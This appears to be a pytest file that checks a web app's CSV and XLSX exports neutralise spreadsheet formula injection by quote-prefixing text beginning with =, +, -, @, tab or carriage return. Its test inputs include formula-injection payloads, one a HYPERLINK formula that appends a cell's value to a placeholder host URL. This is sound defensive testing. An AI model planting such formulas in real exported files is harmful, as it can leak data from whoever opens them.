"""Exports never carry a live formula: text starting with =, +, -, @, tab or CR is neutralised; numbers stay."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from app.exports.streams import Sheet, cell_neutral, csv_stream, xlsx_stream
from tests.conftest import Browser
from tests.dashboard.fixtures import fixed_make

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "=1+1", "+62 812", "-5+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_prefixed(text: str) -> None:
    assert cell_neutral(text) == "'" + text


@pytest.mark.parametrize("value", ["Ani", "1+1", "", " =x", 5, -5, 2.5, True, None])
def test_other_values_stay(value: object) -> None:
    assert cell_neutral(value) == value


def test_csv_cells_are_neutral_and_numbers_stay_numbers() -> None:
    sheet = Sheet(title="t", header=["=Nama", "No"], rows=[[text, -3] for text in DANGEROUS])
    rows = list(csv.reader(io.StringIO(b"".join(csv_stream(sheet)).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=Nama", "No"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in DANGEROUS]
    assert {r[1] for r in rows[1:]} == {"-3"}


def test_xlsx_formula_like_text_is_quote_prefixed_text() -> None:
    content = b"".join(xlsx_stream([Sheet(title="t", header=["-"], rows=[[t, -3, "Ani"] for t in DANGEROUS])]))
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula cell at all
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A1"].value == "-" and sheet["A1"].quotePrefix and sheet["A1"].font.b
    for row, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.quotePrefix, text
        assert sheet.cell(row=row, column=2).value == -3 and not sheet.cell(row=row, column=2).quotePrefix
        assert not sheet.cell(row=row, column=3).quotePrefix


def test_a_family_named_like_a_formula_exports_as_text(session: Session, web: Browser) -> None:
    fx = fixed_make(session)
    family = fx.world.families[0]
    family.head_name = '=HYPERLINK("http://x.example","Ani")'
    session.add(family)
    session.flush()
    web.login(fx.world.supervisor.username)
    month = fx.recent.date.strftime("%Y-%m")
    body = web.get(f"/ekspor/absensi.csv?wilayah=32.77&bulan={month}").content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in body and ",=HYPERLINK(" not in body and '"=HYPERLINK(' not in body
    xlsx = web.get(f"/ekspor/absensi.xlsx?wilayah=32.77&bulan={month}").content
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows() for c in row]
    hits = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert hits and all(c.quotePrefix and c.data_type == "s" for c in hits)
